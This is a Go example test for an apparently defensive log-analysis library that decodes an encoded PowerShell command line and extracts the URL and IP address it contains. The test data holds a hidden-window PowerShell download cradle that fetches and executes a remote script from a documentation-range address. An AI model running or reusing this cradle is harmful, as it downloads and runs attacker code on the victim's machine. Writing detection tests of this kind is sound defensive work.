package pipeline_test

import (
	"context"
	"fmt"

	"github.com/hunchsec/hunch/pipeline"
	"github.com/hunchsec/hunch/record"
	"github.com/hunchsec/hunch/unpack"
)

func ExampleExtract() {
	ev := record.New(
		record.Field{Name: "Computer", Value: record.String("WKS-014")},
		record.Field{Name: "CommandLine", Value: record.String(
			// -enc of "IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.23/a.ps1')"
			"powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkALgBEAG8AdwBuAGwAbwBhAGQAUwB0AHIAaQBuAGcAKAAnAGgAdAB0AHAAOgAvAC8AMQA5ADgALgA1ADEALgAxADAAMAAuADIAMwAvAGEALgBwAHMAMQAnACkA")},
	)
	in := func(yield func(record.Record, error) bool) { yield(ev, nil) }
	up, _ := unpack.New(unpack.DefaultOptions())
	out := pipeline.Extract(context.Background(), in, pipeline.ExtractOptions{
		Fields: []string{"CommandLine"}, Keep: true, Unpacker: up,
	})
	for r, err := range out {
		if err != nil {
			panic(err)
		}
		t, _ := r.Get("type")
		v, _ := r.Get("value")
		via, _ := r.Get("via")
		host, _ := r.Get("Computer")
		fmt.Println(host.Text(), t.Text(), v.Text(), via.Text())
	}
	// Output:
	// WKS-014 url http://198.51.100.23/a.ps1 decoded
	// WKS-014 ipv4 198.51.100.23 decoded
}
